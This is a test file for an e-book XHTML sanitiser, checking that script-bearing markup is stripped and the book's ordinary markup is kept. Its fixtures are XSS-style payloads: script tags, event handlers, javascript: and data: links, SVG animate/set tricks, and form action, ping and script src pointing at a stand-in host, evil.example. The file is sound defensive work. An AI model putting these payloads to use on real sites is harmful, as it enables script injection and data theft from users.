// @vitest-environment jsdom
import { describe, expect, test } from 'vitest';
import { parseDocument } from './parse.ts';
import { sanitise } from './sanitiser.ts';

const xhtml = (body: string, head = '') =>
  `<html xmlns="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink"><head><title>x</title>${head}</head><body>${body}</body></html>`;

function clean(body: string, head = ''): string {
  const document = parseDocument(xhtml(body, head), 'application/xhtml+xml');
  sanitise(document);
  return new XMLSerializer().serializeToString(document);
}

describe('what runs is taken out', () => {
  test.each([
    ['a script', '<script>steal()</script>'],
    ['a script elsewhere', '<script src="https://evil.example/x.js"/>'],
    [
      'a script in a drawing',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>steal()</script></svg>',
    ],
    ['a handler', '<img src="x" onerror="steal()"/>'],
    ['a handler with capitals', '<div ONTOGGLE="steal()"/>'],
    ['a handler of a drawing', '<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"/>'],
    ['a frame', '<iframe srcdoc="steal()"/>'],
    ['a frame of HTML', '<iframe src="javascript:steal()"/>'],
    ['an object', '<object data="steal.swf"/>'],
    ['an embedded thing', '<embed src="steal"/>'],
    ['an address that runs', '<a href="javascript:steal()">x</a>'],
    ['one with blanks in it', '<a href=" java&#10;script:steal()">x</a>'],
    ['one of old', '<a href="vbscript:steal()">x</a>'],
    ['a page in an address', '<a href="data:text/html,steal()">x</a>'],
    [
      'one of a drawing',
      '<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="javascript:steal()"/></svg>',
    ],
    [
      'an animated address',
      '<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" to="javascript:steal()"/></a></svg>',
    ],
    [
      'a set handler',
      '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onclick" to="steal()"/></svg>',
    ],
    [
      'a drawing from elsewhere',
      '<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml,steal"/></svg>',
    ],
    [
      'what goes on a form',
      '<form action="https://evil.example/steal"><button formaction="steal">x</button></form>',
    ],
    ['what tells of a press', '<a href="x" ping="https://evil.example/steal">x</a>'],
  ])('%s', (_, body) => {
    expect(clean(body)).not.toMatch(/steal/);
  });

  test.each([
    ['what leads elsewhere', '<meta http-equiv="refresh" content="0;url=steal"/>'],
    ['a base', '<base href="https://evil.example/steal"/>'],
    ['what loads ahead', '<link rel="preload" href="steal"/>'],
    ['an import', '<link rel="import" href="steal"/>'],
  ])('%s in the head', (_, head) => {
    expect(clean('<p/>', head)).not.toMatch(/steal/);
  });
});

test('what belongs to the book stays', () => {
  const kept = clean(
    '<form><p id="one" class="a" style="color:red">Text <a href="two.xhtml#x">on</a></p></form><img src="a.jpg" alt="A"/>',
    '<link rel="stylesheet" href="a.css"/><meta name="viewport" content="width=1"/>',
  );
  expect(kept).toContain(
    '<p id="one" class="a" style="color:red">Text <a href="two.xhtml#x">on</a></p>',
  );
  expect(kept).toContain('<img src="a.jpg" alt="A"');
  expect(kept).toContain('href="a.css"');
  expect(kept).toContain('width=1');
  expect(kept).not.toContain('<form');
});

test('a picture cannot hide a member of the document', () => {
  expect(clean('<img name="body" src="a.jpg"/>')).not.toContain('name=');
});
